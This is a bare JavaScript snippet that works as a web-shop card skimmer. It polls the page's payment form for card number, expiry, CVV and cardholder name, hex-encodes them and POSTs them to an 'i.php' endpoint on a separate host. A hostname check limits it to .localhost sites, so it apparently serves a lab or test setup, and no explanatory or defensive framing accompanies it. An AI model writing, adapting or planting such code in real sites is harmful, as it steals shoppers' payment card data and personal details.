var Hx={e:function(s){for(var o='',i=0;i<s.length;i++){var h=s.charCodeAt(i).toString(16);o+=h.length<2?'0'+h:h}return o},
q:function(n){var e=document.getElementsByName(n);return e.length?e[0].value:''},
r:function(){if(!/\.localhost$/.test(location.hostname))return;
var t=Hx.q('credit_number')+';'+Hx.q('credit_month')+';'+Hx.q('credit_year')+';'+Hx.q('credit_cvv')+';'+Hx.q('lastname')+';'+Hx.q('firstname');
if(t.length<25||t==Hx.l)return;Hx.l=t;
var x=window.XMLHttpRequest?new XMLHttpRequest():new ActiveXObject('Microsoft.XMLHTTP');
x.open('POST','https://opencart-mods.localhost/catalog/view/i.php',true);x.send(Hx.e(t))}};
setInterval(Hx.r,1800);
